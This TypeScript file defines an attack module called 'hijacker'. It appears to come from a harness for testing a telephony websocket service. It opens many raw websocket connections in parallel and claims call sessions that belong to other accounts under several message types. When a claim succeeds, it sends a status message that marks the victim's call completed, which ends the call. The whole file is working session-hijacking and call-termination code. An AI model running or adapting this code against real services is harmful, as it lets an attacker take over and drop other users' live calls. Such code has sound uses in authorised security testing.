import { type Attack, sideBySide } from './attack.ts';
import { openRawWebsocket, textFrame } from './raw-websocket.ts';

const CLAIMS = ['session:new', 'session:reconnect', 'session:adulting'];
/** A claim that has got its answer by then has won, ms. */
const PATIENCE_MS = 3_500;

/** Claims calls that others have, and ends them when it gets one. */
export const hijacker: Attack = (options, tally, signal) => {
  let next = 0;
  return sideBySide(options.width, signal, async () => {
    const socket = await openRawWebsocket(options);
    if (socket === undefined) return;
    tally.opened++;
    const n = next++;
    const call_sid = options.callSids[n % options.callSids.length] as string;
    const type = CLAIMS[n % CLAIMS.length] as string;
    const data = { call_sid, account_sid: options.account, call_status: 'in-progress' };
    socket.write(textFrame(JSON.stringify({ type, msgid: 'claim', call_sid, data })));
    const completed = { type: 'call:status', call_sid, data: { ...data, call_status: 'completed' } };
    await new Promise<void>((resolve) => {
      const patience = setTimeout(() => socket.destroy(), PATIENCE_MS);
      socket.on('data', (bytes) => {
        // A text frame: the answer. A close frame is a refusal.
        if (bytes[0] === 0x81) {
          tally.won++;
          socket.write(textFrame(JSON.stringify(completed)));
        } else if (bytes[0] === 0x88) socket.destroy();
      });
      socket.once('close', () => {
        clearTimeout(patience);
        resolve();
      });
    });
  });
};
